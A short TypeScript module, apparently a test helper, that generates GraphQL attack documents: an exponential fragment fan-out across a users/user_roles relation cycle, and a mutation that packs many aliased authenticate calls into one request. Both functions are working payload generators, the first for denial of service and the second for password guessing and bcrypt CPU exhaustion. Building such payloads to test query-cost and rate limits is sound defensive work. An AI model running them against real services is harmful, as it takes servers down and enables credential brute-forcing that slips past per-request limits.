// Documents an attacker sends: fan-out through fragments across a relation cycle, and aliased sign-ins.
import { randomBytes } from 'node:crypto';

/** A fresh alias per use, so no two attack documents are alike (no cache helps the server). */
const alias = () => `a_${randomBytes(4).toString('hex')}`;

/**
 * Each level spreads the next level's fragment under `aliases` random aliases, alternating
 * users -> user_roles -> users ...: a document of about 1 kB whose expansion is aliases^levels selections.
 */
export function fanOutAttack(aliases: number, levels: number): string {
  const fragments: string[] = [];
  for (let level = 1; level <= levels; level++) {
    const onUser = level % 2 === 1;
    const spread = (field: string) => Array.from({ length: aliases }, () => `${alias()}: ${field}`).join('\n  ');
    const body =
      level === levels
        ? onUser ? 'uuid createdAt' : 'userUuid roleId'
        : onUser
          ? spread(`userRolesByUserUuid(first: 100) { nodes { ...L${level + 1} } }`)
          : spread(`userByUserUuid { ...L${level + 1} }`);
    fragments.push(`fragment L${level} on ${onUser ? 'User' : 'UserRole'} {\n  ${body}\n}`);
  }
  return `query Attack { allUsers(first: 100) { nodes { ...L1 } } }\n${fragments.join('\n')}`;
}

/** `count` aliased `authenticate` calls in one mutation: one request asking for `count` bcrypt hashes. */
export function aliasedSignIns(count: number): string {
  const fields = Array.from({ length: count }, (_, i) => `s${i}:authenticate(input:{login:$l,password:$p}){accessToken}`);
  return `mutation Guess($l:String!,$p:String!){${fields.join(' ')}}`;
}
